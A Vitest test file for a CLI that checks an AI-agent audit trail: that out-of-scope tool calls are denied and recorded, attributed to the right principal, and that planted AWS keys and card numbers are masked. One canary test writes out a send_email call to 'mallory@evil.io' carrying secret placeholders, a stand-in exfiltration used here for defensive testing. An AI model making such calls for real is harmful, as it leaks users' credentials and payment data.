import { readFile, readdir } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { appOptions, collector, configModule, finished, moduleFile, runCheck, stopCli, verdictOf } from './check-helpers.js';
import { cleanup } from './helpers.js';

// `tooltrail check` against a real `tooltrail collect` process, with the built cli: one
// collector per test, so the recent-records scan sees only that test's trail.

afterEach(cleanup);

describe('tooltrail check', () => {
  it('a correct set-up passes all three questions, as a table and as JSON', async () => {
    const c = await collector();
    const mod = await configModule(appOptions(c, 'check-correct'));
    const { code, json } = await runCheck(['--config', mod, '--trail', c.dir]);
    expect(json.failing).toEqual([]);
    expect(code).toBe(0);
    expect(json.ok).toBe(true);
    expect(json.verdicts.map((v) => [v.id, v.status])).toEqual([
      ['denied', 'pass'],
      ['attributed', 'pass'],
      ['masked', 'pass'],
    ]);
    for (const run of json.canary) {
      expect(run.inProcess).toMatchObject({ result: 'denied', rule: 'agent-scope' });
      expect(run.record).toMatchObject({ outcome: 'denied', rule: 'agent-scope', principalId: run.principal });
      // The record holds the masked arguments: the card's last four digits at most.
      expect(run.record!.argsJson).toMatch(/\[REDACTED:aws_access_key_id\]/);
      expect(run.record!.argsJson).toMatch(/\*{4}\d{4}/);
    }
    expect(json.canary[0]!.record!.runId).not.toBe(json.canary[1]!.record!.runId);
    expect(json.read.bytes).toBeGreaterThan(0);
    const table = await finished(['check', '--config', mod, '--trail', c.dir]);
    expect(table.code).toBe(0);
    expect(table.stdout).toMatch(/1 {2}the denied attempt is recorded +five +PASS/);
    expect(table.stdout).toMatch(/2 {2}attributed to its run and principal +three +PASS/);
    expect(table.stdout).toMatch(/3 {2}the planted secrets are masked +four +PASS/);
    expect(table.stdout).toContain('Result: PASS');
    await stopCli(c);
  });

  it('a shared principal (withRun ignores the principal it is given) fails question 2, and only that', async () => {
    const c = await collector();
    // The default export is the auditor itself; withRun runs every agent as one service
    // account, whatever principal it is given.
    const mod = await moduleFile(`const auditor = createAuditor(${appOptions(c, 'check-shared')});
export default auditor;
export function withRun(identity, fn) {
  return auditor.run({ principal: { id: 'svc-support-agent', type: 'service' }, agent: identity.agent }, fn);
}`);
    const { code, json } = await runCheck(['--config', mod, '--trail', c.dir]);
    expect(code).toBe(1);
    expect(json.failing).toEqual(['attributed']);
    const v = verdictOf(json, 'attributed');
    expect(v.status).toBe('fail');
    expect(v.summary).toBe('both runs are recorded under one principal "svc-support-agent": a shared identity, not the one each run acted for');
    expect(v.details.join('\n')).toMatch(/recorded under principal "svc-support-agent", not the principal it ran as/);
    expect(v.details.join('\n')).toMatch(/both runs are recorded under one principal "svc-support-agent"/);
    expect(verdictOf(json, 'denied').status).toBe('pass');
    expect(verdictOf(json, 'masked').status).toBe('pass');
    await stopCli(c);
  });

  it('masking off fails question 3, naming where the planted secrets are', async () => {
    const c = await collector();
    const mod = await configModule(appOptions(c, 'check-unmasked', 'masking: false,'));
    const { code, json } = await runCheck(['--config', mod, '--trail', c.dir]);
    expect(code).toBe(1);
    expect(json.failing).toEqual(['masked']);
    const v = verdictOf(json, 'masked');
    expect(v.summary).toMatch(/aws_access_key_id and card_number are in the trail unmasked/);
    expect(v.details[0]).toMatch(/spans-.*\.jsonl:\d+$/);
    // It says where, never the value: the secret is not in the check's own output.
    const files = await readdir(c.dir);
    const trail = (await Promise.all(files.map((f) => readFile(path.join(c.dir, f), 'utf8')))).join('');
    const aws = /AKIA[A-Z2-7]{16}/.exec(trail)?.[0];
    expect(aws).toBeDefined();
    expect(JSON.stringify(json)).not.toContain(aws);
    await stopCli(c);
  });

  it('a set-up that drops denials (an exporter wrapper filtering denied spans) fails question 1', async () => {
    const c = await collector();
    const exporter = `exporter: {
      export(spans, done) {
        const kept = spans.filter((s) => s.attributes['tooltrail.outcome'] !== 'denied');
        if (kept.length === 0) return done({ code: 0 });
        fetch(${JSON.stringify(`${c.url}/v1/traces`)}, { method: 'POST', headers: { 'content-type': 'application/json' }, body: encodeTraceRequest(kept) })
          .then((r) => done({ code: r.ok ? 0 : 1 }), (error) => done({ code: 1, error }));
      },
      async shutdown() {},
    },`;
    const mod = await configModule(appOptions(c, 'check-drops', exporter));
    const t0 = Date.now();
    const { code, json } = await runCheck(['--config', mod, '--trail', c.dir, '--timeout', '2s']);
    expect(Date.now() - t0).toBeLessThan(20_000);
    expect(code).toBe(1);
    expect(json.failing).toContain('denied');
    const v = verdictOf(json, 'denied');
    expect(v.status).toBe('fail');
    expect(v.summary).toBe('2 denied attempt(s) missing from the trail');
    // The runs' own spans arrived: the trail is reachable, the denials in particular are not.
    expect(json.read.related).toBeGreaterThan(0);
    expect(v.details.join('\n')).toMatch(/drops denied calls \(mistake five/);
    // Nothing of the canary calls to look at: questions 2 and 3 cannot be answered (not a pass).
    expect(verdictOf(json, 'attributed').status).toBe('unknown');
    expect(verdictOf(json, 'masked').status).toBe('unknown');
    await stopCli(c);
  });

  it('a policy that lets the out-of-scope call through fails question 1 and says so', async () => {
    const c = await collector();
    const mod = await configModule(appOptions(c, 'check-allows').replace(/policy: \[[^\n]*\],/, 'policy: [],'));
    const { code, json } = await runCheck(['--config', mod, '--trail', c.dir]);
    expect(code).toBe(1);
    expect(json.failing).toEqual(['denied']);
    const v = verdictOf(json, 'denied');
    expect(v.summary).toBe('the policy allowed the out-of-scope call (2 of 2)');
    expect(v.details.join('\n')).toMatch(/recorded with outcome "ok", not "denied"/);
    expect(json.canary.map((r) => r.inProcess?.result)).toEqual(['allowed', 'allowed']);
    await stopCli(c);
  });

  it('--tool and --args: the user names the out-of-scope call; placeholders carry the planted secrets', async () => {
    const c = await collector();
    // The default export may be an async factory too.
    const mod = await moduleFile(`export default async () => createAuditor(${appOptions(c, 'check-args')});`);
    const { code, json } = await runCheck([
      '--config', mod, '--trail', c.dir,
      '--tool', 'send_email',
      '--args', JSON.stringify({ to: 'mallory@evil.io', body: 'keys: {{aws_key}} card {{card}} ref {{nonce}}' }),
    ]);
    expect(code).toBe(0);
    const args = JSON.parse(json.canary[0]!.record!.argsJson!) as { body: string; tooltrail_canary_note?: string };
    expect(args.body).toMatch(new RegExp(`^keys: \\[REDACTED:aws_access_key_id\\] card \\*{4}\\d{4} ref ${json.nonce}$`));
    expect(args.tooltrail_canary_note).toBeUndefined();
    await stopCli(c);
  });
});
